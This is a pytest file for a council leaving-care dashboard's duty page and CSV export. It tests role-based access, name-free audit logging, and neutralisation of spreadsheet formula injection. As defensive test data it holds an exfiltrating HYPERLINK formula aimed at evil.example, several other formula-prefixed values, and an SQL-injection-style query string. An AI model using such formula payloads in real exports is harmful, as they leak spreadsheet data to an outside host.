"""The duty view and its CSV export: a manager sees their own team and cannot widen it, an
admin sees everyone and filters, anyone else is refused; the CSV is one list of every figure,
safe to open in a spreadsheet, and its export is audited without names."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import timedelta

import pytest
from sqlalchemy import select
from sqlalchemy.orm import sessionmaker
from starlette.testclient import TestClient

from bot.clock import FixedClock
from bot.dashboard.duty import DUTY, neutralise
from bot.models import AuditEvent, PersonalAdviser, Team
from tests.bot.dashboard.helpers import Account
from tests.bot.keeping_in_touch.duty_world import World

Browser = Callable[[str], TestClient]


@pytest.fixture
def world(sessions: sessionmaker, staff: dict[str, Account], clock: FixedClock) -> World:
    return World(sessions, clock.now())


def team_id(sessions: sessionmaker, council: str) -> int:
    with sessions() as session:
        return session.execute(select(Team.id).where(Team.council_id == council)).scalar_one()


def audits(sessions: sessionmaker, action: str) -> list[AuditEvent]:
    with sessions() as session:
        return list(
            session.execute(
                select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)
            ).scalars()
        )


def silent_pair(world: World) -> tuple[int, int, list[int]]:
    """A Plymouth and a Cambridgeshire 19-year-old, both silent for 40 days, both with an
    escalation past its deadline; returns their ids and the escalations' ids."""
    plymouth = world.aged("ply-silent", 19, name="Quinn")
    cambs = world.aged("cambs-silent", 19, name="Rowan", council="cambridgeshire", pa="Tom Walsh")
    escalations = [
        world.escalation(
            yp, created_at=world.now - timedelta(days=40), due_at=world.now - timedelta(days=39)
        )
        for yp in (plymouth, cambs)
    ]
    return plymouth, cambs, escalations


def test_a_manager_sees_their_own_team_and_cannot_widen_it(
    browser: Browser, sessions: sessionmaker, world: World, staff: dict[str, Account]
) -> None:
    plymouth, cambs, (ply_esc, cambs_esc) = silent_pair(world)
    manager = browser("manager")
    page = manager.get(DUTY)
    assert page.status_code == 200, page.text
    assert "Quinn" in page.text and "ply-silent" in page.text
    assert f'href="/staff/young-people/{plymouth}"' in page.text
    assert "Rowan" not in page.text and f"/staff/young-people/{cambs}" not in page.text
    assert f'href="/staff/escalations/{ply_esc}"' in page.text
    assert f"/staff/escalations/{cambs_esc}" not in page.text
    assert "Plymouth leaving care team" in page.text
    assert "<svg" in page.text and "<script" not in page.text
    assert page.headers["cache-control"] == "no-store"

    own = team_id(sessions, "plymouth")
    assert manager.get(f"{DUTY}?team={own}").status_code == 200
    assert manager.get(f"{DUTY}?council=plymouth").status_code == 200
    other = team_id(sessions, "cambridgeshire")
    for query in (f"?team={other}", "?council=cambridgeshire"):
        for path in (DUTY, "/staff/duty.csv"):
            response = manager.get(path + query)
            assert response.status_code == 403, path + query
            assert "Rowan" not in response.text
    denied = audits(sessions, "access_denied")
    assert len(denied) == 4
    assert {d.actor for d in denied} == {f"staff:{staff['manager'].id}"}
    assert {(d.subject_type, d.subject_id) for d in denied} == {
        ("team", str(other)),
        ("council", "cambridgeshire"),
    }


@pytest.mark.parametrize("who", ["sam", "editor"])
def test_anyone_but_managers_and_admins_is_refused(
    browser: Browser, sessions: sessionmaker, world: World, who: str
) -> None:
    silent_pair(world)
    client = browser(who)
    for path in (DUTY, "/staff/duty.csv"):
        response = client.get(path)
        assert response.status_code == 403, path
        assert "Quinn" not in response.text
    assert [(d.subject_type, d.subject_id) for d in audits(sessions, "access_denied")] == [
        ("page", "duty"),
        ("page", "duty"),
    ]
    assert audits(sessions, "duty_report_exported") == []


def test_an_admin_sees_everyone_and_filters(
    browser: Browser, sessions: sessionmaker, world: World
) -> None:
    silent_pair(world)
    admin = browser("admin")
    everyone = admin.get(DUTY)
    assert everyone.status_code == 200
    assert "Quinn" in everyone.text and "Rowan" in everyone.text
    assert '<select id="filter-council" name="council">' in everyone.text
    assert '<select id="filter-council"' not in browser("manager").get(DUTY).text

    cambs = admin.get(f"{DUTY}?council=cambridgeshire")
    assert "Rowan" in cambs.text and "Quinn" not in cambs.text
    assert '<option value="cambridgeshire" selected>' in cambs.text
    assert 'href="/staff/duty.csv?council=cambridgeshire"' in cambs.text

    plymouth_team = team_id(sessions, "plymouth")
    team = admin.get(f"{DUTY}?team={plymouth_team}")
    assert "Quinn" in team.text and "Rowan" not in team.text
    # A team of another council: nothing of either.
    both = admin.get(f"{DUTY}?council=cambridgeshire&team={plymouth_team}")
    assert both.status_code == 200 and "Quinn" not in both.text and "Rowan" not in both.text

    for query in ("?council=atlantis", "?team=999999", "?team=1%20OR%201=1", "?team=99999999999"):
        assert admin.get(DUTY + query).status_code == 404, query


def test_the_csv_lists_every_figure_and_cannot_run_formulas(
    browser: Browser, sessions: sessionmaker, world: World, staff: dict[str, Account]
) -> None:
    silent_pair(world)
    world.aged("formula", 19, name='=HYPERLINK("http://evil.example/?x="&A1,"help")')
    world.aged("at-sign", 20, name="@SUM(1+1)")
    with sessions.begin() as session:
        sam = session.execute(
            select(PersonalAdviser).where(PersonalAdviser.name == "Sam Ortiz")
        ).scalar_one()
        sam.name = "+Sam Ortiz"
    manager = browser("manager")
    response = manager.get("/staff/duty.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="duty-2026-11-23.csv"'
    assert response.headers["cache-control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0])[:4] == ["list", "escalation_id", "ref", "name"]
    lists = {r["list"] for r in rows}
    assert {"no_contact_over_cadence", "overdue_escalations", "said_no"} <= lists
    by_ref = {(r["list"], r["ref"]): r for r in rows}
    assert ("no_contact_over_cadence", "cambs-silent") not in by_ref  # another team's
    formula = by_ref[("no_contact_over_cadence", "formula")]
    assert formula["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"help")'
    assert by_ref[("no_contact_over_cadence", "at-sign")]["name"] == "'@SUM(1+1)"
    assert formula["pa"] == "'+Sam Ortiz"
    assert formula["last_contact"] == ""
    assert formula["cadence_weeks"] == "4"
    escalation = by_ref[("overdue_escalations", "ply-silent")]
    assert escalation["overdue"] == "yes" and escalation["re_escalated"] == "no"
    assert escalation["due_at"] == "2026-10-15T11:00+01:00"  # 10:00 UTC in London summer time
    assert escalation["age_hours"] == str(40 * 24)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), row

    (event,) = audits(sessions, "duty_report_exported")
    assert event.actor == f"staff:{staff['manager'].id}"
    assert event.detail["team"] == team_id(sessions, "plymouth")
    assert event.detail["rows"]["no_contact_over_cadence"] == sum(
        1 for r in rows if r["list"] == "no_contact_over_cadence"
    )
    detail = json.dumps(event.detail)
    for name in ("Quinn", "HYPERLINK", "SUM", "Sam Ortiz", "ply-silent"):
        assert name not in detail


def test_the_page_shows_this_month_against_last_and_the_trend(
    browser: Browser, world: World
) -> None:
    yp = world.aged("trend-person", 19)
    world.escalation(yp, created_at=world.now - timedelta(days=30), due_at=None)  # October
    for days in (1, 2, 3):
        world.escalation(yp, created_at=world.now - timedelta(days=days), due_at=None)
    page = browser("manager").get(DUTY).text
    months = page[page.index('id="months"') : page.index('id="trend"')]
    opened = re.search(
        r"Escalations opened</td>\s*<td[^>]*>(\d+)</td>\s*<td[^>]*>(\d+)</td>", months
    )
    assert opened, months
    assert opened.groups() == ("1", "3")
    assert "Oct 2026" in months and "Nov 2026 so far" in months
    chart = page[page.index('id="chart-escalations_opened"') :]
    chart = chart[: chart.index("</svg>")]
    assert "Oct 2026: 1; Nov 2026: 3" in chart
    assert chart.count("<rect") == 6


def test_neutralise_prefixes_only_what_a_spreadsheet_would_run() -> None:
    for value in ("=1+1", "+44 7700", "-2", "@cmd", "\t=1", "\r=1"):
        assert neutralise(value) == "'" + value
    for value in ("Sam Ortiz", "demo-19", "2026-11-23", "", "1=1"):
        assert neutralise(value) == value


def test_the_nav_offers_duty_to_managers_and_admins_only(browser: Browser) -> None:
    link = '<a href="/staff/duty"'
    assert link in browser("manager").get("/staff/").text
    assert link in browser("admin").get("/staff/").text
    assert link not in browser("sam").get("/staff/").text
